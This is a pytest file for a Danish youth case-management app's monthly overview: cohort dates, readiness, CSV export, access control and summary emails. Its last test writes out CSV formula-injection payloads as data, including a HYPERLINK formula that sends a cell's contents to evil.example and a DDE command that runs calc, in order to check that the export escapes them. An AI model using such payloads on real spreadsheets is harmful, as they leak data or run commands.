"""The coordinators' monthly overview: cohort boundaries, readiness from real rows, the CSV
export read back with the csv module, the JSON API and who may see it."""

from __future__ import annotations

import csv
import io
from datetime import date

from fastapi.testclient import TestClient
from sqlmodel import Session, col, select

from app.deps import get_today
from app.domain.youth import YouthData
from app.models.audit import AuditAction, AuditEvent
from app.models.network import NetworkMember, NetworkRole, Person, PersonKind, Sector
from app.models.user import Role, User
from app.models.youth import SupportExpected, Youth
from app.services import auth, youths
from app.settings import Settings
from tests.conftest import login, make_user

TODAY = date(2026, 11, 23)


def _youth(session: Session, settings: Settings, actor: User, born: date, name: str,
           cpr: str | None = None, **extra: object) -> Youth:
    values: dict[str, object] = {"adult_support_expected": SupportExpected.YES, **extra}
    if cpr:
        values["cpr"] = cpr
    else:
        values.update(birth_date=born, birth_date_reason="Ingen CPR-nummer endnu")
    data = YouthData(first_name=name, last_name="Overblik", **values)  # type: ignore[arg-type]
    return youths.create(session, settings, actor, data, date(2026, 1, 5))


def _client(client: TestClient, username: str) -> TestClient:
    client.app.dependency_overrides[get_today] = lambda: TODAY  # type: ignore[attr-defined]
    login(client, username)
    return client


def _cohort(payload: dict[str, object], key: str) -> list[str]:
    cohorts = {c["key"]: c for c in payload["cohorts"]}  # type: ignore[attr-defined,index]
    return [p["name"] for p in cohorts[key]["young_people"]]


def test_cohorts_take_everyone_turning_18_from_the_first_to_the_last_day_of_the_month(
    client: TestClient, session: Session, settings: Settings
) -> None:
    coordinator = make_user(session, Role.COORDINATOR, "koord")
    _youth(session, settings, coordinator, date(2008, 12, 1), "Første")   # 18 on 1 Dec 2026
    _youth(session, settings, coordinator, date(2008, 12, 31), "Sidste")  # 18 on 31 Dec 2026
    _youth(session, settings, coordinator, date(2008, 11, 30), "Før")     # 18 in November
    _youth(session, settings, coordinator, date(2009, 1, 1), "Efter")     # 18 in January
    _youth(session, settings, coordinator, date(2010, 6, 15), "Halvfemten")  # 16½ on 15 Dec
    # Born 29 February: 18 on 28 February 2026 by the timeline's arithmetic.
    _youth(session, settings, coordinator, date(2008, 2, 29), "Skudår")
    client = _client(client, "koord")

    december = client.get("/api/v1/overview?month=2026-12").json()
    assert sorted(_cohort(december, "18")) == ["Første Overblik", "Sidste Overblik"]
    assert _cohort(december, "16_5") == ["Halvfemten Overblik"]
    assert _cohort(december, "18+1") == ["Efter Overblik"]
    february = client.get("/api/v1/overview?month=2026-02").json()
    assert _cohort(february, "18") == ["Skudår Overblik"]
    november = client.get("/api/v1/overview").json()  # default: this month
    assert november["month"] == "2026-11"
    assert _cohort(november, "18") == ["Før Overblik"]


def test_readiness_is_computed_from_the_rows(
    client: TestClient, session: Session, settings: Settings
) -> None:
    coordinator = make_user(session, Role.COORDINATOR, "koord")
    child = make_user(session, Role.CHILD_CASEWORKER)
    adult = make_user(session, Role.ADULT_CASEWORKER)
    ready = _youth(session, settings, coordinator, date(2008, 12, 10), "Klar",
                   child_caseworker_id=child.id, adult_caseworker_id=adult.id,
                   coordinator_id=child.id, buddy_id=adult.id)
    _youth(session, settings, coordinator, date(2008, 12, 11), "Ingenting")
    person = Person(kind=PersonKind.PRIVATE, name="Mor Overblik")
    session.add(person)
    session.flush()
    session.add(NetworkMember(youth_id=ready.id, person_id=person.id or 0, sector=Sector.FAMILY,
                              role=NetworkRole.MOTHER, custody_holder=True))
    session.commit()
    client = _client(client, "koord")

    people = client.get("/api/v1/overview?month=2026-12").json()["cohorts"][3]["young_people"]
    by_name = {p["name"]: p["readiness"] for p in people}
    assert by_name["Klar Overblik"]["adult_caseworker"] is True
    assert by_name["Klar Overblik"]["coordinator_and_buddy"] is True
    assert by_name["Klar Overblik"]["network_started"] is True
    assert by_name["Ingenting Overblik"] == {
        **by_name["Ingenting Overblik"], "adult_caseworker": False,
        "coordinator_and_buddy": False, "network_started": False,
        "consent_for_adult_department": False, "first_meeting_held": False,
    }
    # Born December 2008: every step up to 17½ is overdue on 23 November 2026.
    assert by_name["Ingenting Overblik"]["overdue_steps"] >= 3


def test_the_csv_opens_in_danish_excel_and_has_cpr_numbers_only_when_asked_for(
    client: TestClient, session: Session, settings: Settings
) -> None:
    coordinator = make_user(session, Role.COORDINATOR, "koord")
    _youth(session, settings, coordinator, date(2008, 12, 24), "Juleaften", cpr="2412084321")
    client = _client(client, "koord")

    response = client.get("/overview.csv?month=2026-12")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Gruppe", "Navn", "Fødselsdato"]
    assert rows[1][1:3] == ["Juleaften Overblik", "24.12.2008"]
    assert "2412084321" not in response.text and "241208" not in response.text.replace(
        "24.12.2008", "")

    with_cpr = client.get("/overview.csv?month=2026-12&cpr=1")
    rows = list(csv.reader(io.StringIO(with_cpr.content.decode("utf-8-sig")), delimiter=";"))
    assert "2412084321" in rows[1]
    exports = session.exec(select(AuditEvent).where(
        AuditEvent.action == AuditAction.EXPORT, col(AuditEvent.detail).contains("cpr=yes"))
    ).all()
    assert len(exports) == 1


def test_only_coordinators_and_administrators_see_the_overview(
    client: TestClient, session: Session
) -> None:
    make_user(session, Role.CHILD_CASEWORKER, "boern")
    client = _client(client, "boern")
    assert client.get("/overview").status_code == 403
    assert client.get("/api/v1/overview").status_code == 403
    assert client.get("/overview.csv").status_code == 403


def test_the_page_shows_sections_and_refuses_a_bad_month(
    client: TestClient, session: Session, settings: Settings
) -> None:
    coordinator = make_user(session, Role.COORDINATOR, "koord")
    _youth(session, settings, coordinator, date(2009, 3, 1), "Snart")  # 18 within six months
    client = _client(client, "koord")
    page = client.get("/overview")
    assert page.status_code == 200
    assert "Månedsoverblik" in page.text
    assert "Snart Overblik" in page.text  # no adult caseworker, 18 within six months
    bad = client.get("/overview?month=2026-13")
    assert bad.status_code == 400
    assert "ÅÅÅÅ-MM" in bad.text
    assert client.get("/api/v1/overview?month=nope").status_code == 422


def test_the_monthly_summary_goes_once_to_each_coordinator_without_names(
    session: Session, settings: Settings
) -> None:
    from datetime import UTC, datetime

    from app.models.outbox import OutboxKind, OutboxMessage
    from app.services import overview_mail

    coordinator = make_user(session, Role.COORDINATOR, "koord")
    make_user(session, Role.CHILD_CASEWORKER, "boern")
    _youth(session, settings, coordinator, date(2008, 12, 5), "Hemmelig", cpr="0512084321")

    before_seven = datetime(2026, 12, 1, 5, 30, tzinfo=UTC)  # 06:30 in Copenhagen
    assert overview_mail.send_monthly_summary(session, settings, before_seven) == 0
    at_seven = datetime(2026, 12, 1, 6, 0, tzinfo=UTC)
    assert overview_mail.send_monthly_summary(session, settings, at_seven) == 1
    assert overview_mail.send_monthly_summary(session, settings, at_seven) == 0  # run twice

    messages = session.exec(
        select(OutboxMessage).where(OutboxMessage.kind == OutboxKind.OVERVIEW_SUMMARY)).all()
    assert [m.recipient_email for m in messages] == [coordinator.email]
    body = messages[0].body
    assert "Fylder 18: 1" in body
    assert "/overview?month=2026-12" in body
    assert "Hemmelig" not in body and "051208" not in body


def test_inquiries_past_their_48_hours_are_listed(
    client: TestClient, session: Session, settings: Settings
) -> None:
    from datetime import datetime, time

    from app.domain.inquiry import InquiryData
    from app.models.inquiry import InquirySender
    from app.models.youth import Channel
    from app.services import inquiries

    coordinator = make_user(session, Role.COORDINATOR, "koord")
    youth = _youth(session, settings, coordinator, date(2009, 5, 5), "Venter")
    data = InquiryData(received_on=date(2026, 11, 2), received_time=time(10, 0),
                       channel=Channel.PHONE, sender_kind=InquirySender.FAMILY, summary="Hej")
    inquiries.create(session, settings, coordinator, youth.id or 0, data,
                     datetime(2026, 11, 20, tzinfo=settings.tz))
    client = _client(client, "koord")
    payload = client.get("/api/v1/overview").json()
    assert payload["late_inquiries"] == 1
    assert "Venter Overblik" in client.get("/overview").text


def test_names_a_spreadsheet_would_run_as_formulas_come_out_of_the_csv_as_text(
    client: TestClient, session: Session
) -> None:
    coordinator = make_user(session, Role.COORDINATOR, "koord")
    bearer = {"Authorization": f"Bearer {auth.issue_api_token(session, coordinator)}"}
    names = ['=HYPERLINK("http://evil.example/?x="&A1;"Klik")', "=cmd|' /C calc'!A0",
             "@SUM(1+1)", "+1+1", "-2+3", "＝1+1"]
    for day, name in enumerate(names, start=1):
        created = client.post("/api/v1/youths", headers=bearer, json={
            "first_name": name, "last_name": "Overblik", "birth_date": f"2008-12-{day:02}",
            "birth_date_reason": "Ingen CPR-nummer endnu", "adult_support_expected": "yes"})
        assert created.status_code == 201, created.text
    client = _client(client, "koord")

    response = client.get("/overview.csv?month=2026-12")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert sorted(row[1] for row in rows[1:]) == sorted(f"'{name} Overblik" for name in names)
    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for row in rows for cell in row)
